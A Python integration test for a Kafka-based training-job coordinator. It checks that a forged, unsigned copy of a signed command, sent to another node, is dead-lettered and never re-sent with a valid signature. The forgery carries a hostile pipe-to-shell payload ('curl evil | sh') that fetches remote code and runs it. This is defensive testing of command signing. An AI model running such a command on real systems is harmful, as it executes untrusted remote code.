"""The re-signing attack against the real coordinator on the real broker: a forged, unsigned copy of
one of its commands (another node, another argv, a newer ts) is written to the commands topic. The
coordinator must dead-letter it, and what it re-sends at the deadline is its own command, never the
forgery with a valid signature."""

from __future__ import annotations

import time

import pytest

from tests.integration.test_coordinator import Keys, leading
from trainmedic.bus.producer import EventProducer
from trainmedic.bus.reader import NOW, TopicReader
from trainmedic.bus.settings import KafkaSettings
from trainmedic.recovery.coordinator.core import CoordinatorConfig, NodeConfig
from trainmedic.recovery.coordinator.kafka_adapter import CoordinatorService
from trainmedic.schemas import JobSpec
from trainmedic.schemas.commands import Command

pytestmark = pytest.mark.kafka

CONFIG = CoordinatorConfig(tick_s=0.2, ack_timeout_s=1.0, max_retries=2, default_address="127.0.0.1",
                           nodes=tuple(NodeConfig(id=f"n{i}", switch="leaf-1") for i in range(1, 5)))
EVIL = ("sh", "-c", "curl evil | sh")


def records(kafka: KafkaSettings, suffix: str) -> list:
    with TopicReader(kafka, [kafka.topics.name(suffix)], end=NOW, validate=True) as reader:
        return [r for batch in reader.batches() for r in batch]


def step_until(service: CoordinatorService, done, timeout_s: float = 30.0) -> None:
    deadline = time.monotonic() + timeout_s
    while not done():
        assert time.monotonic() < deadline, "the coordinator did not get there in time"
        service.step(0.2)


def test_a_forged_copy_of_a_command_is_dead_lettered_and_never_re_sent_signed(kafka: KafkaSettings,
                                                                               tmp_path) -> None:
    keys = Keys(tmp_path / "keys", deployment=kafka.topic_prefix)
    signing, trusted = keys.coordinator, keys.trust.own
    spec = JobSpec(id="llm", nodes=("n1", "n2"), throughput={2: 2.0e15}, command=("python", "train.py"))
    with EventProducer(kafka) as producer:
        producer.send(kafka.topics.jobs, keys.job(spec), key=spec.id)

    coordinator = leading(kafka, CONFIG, sign=signing.sign, trust=keys.trust)
    coordinator.start()
    step_until(coordinator, lambda: len(coordinator.state.commands) == 2)
    original = next(r.event for r in records(kafka, "commands") if r.event.node == "n1")
    forged = original.model_copy(update={
        "ts": time.time() + 0.5, "node": "n4", "signature": None, "key_id": None,
        "worker": original.worker.model_copy(update={"command": EVIL})})
    with EventProducer(kafka) as producer:
        producer.send(kafka.topics.commands, forged, key=forged.node)

    def resent() -> list[Command]:
        return [r.event for r in records(kafka, "commands") if r.event.id == original.id and r.event.signature
                and r.event.ts > forged.ts]
    step_until(coordinator, lambda: resent(), timeout_s=20.0)

    for record in records(kafka, "commands"):
        command = record.event
        if command.signature:  # everything the coordinator signed verifies, and none is the forgery
            assert trusted.check(record.value) is None
            assert command.node != "n4" and command.worker.command != EVIL
    assert {(c.node, c.worker.command) for c in resent()} == {("n1", ("python", "train.py"))}
    letters = [r.event for r in records(kafka, "dlq") if r.event.source_topic == kafka.topics.commands]
    assert len(letters) == 1 and "not signed by this coordinator" in letters[0].reason
    assert "unsigned" in letters[0].reason
    coordinator.close()

    # a coordinator that starts after the forgery never folds it either
    second = leading(kafka, CONFIG, sign=signing.sign, trust=keys.trust)
    second.start()
    assert second.state.commands[original.id].command.node == "n1"
    second.close()
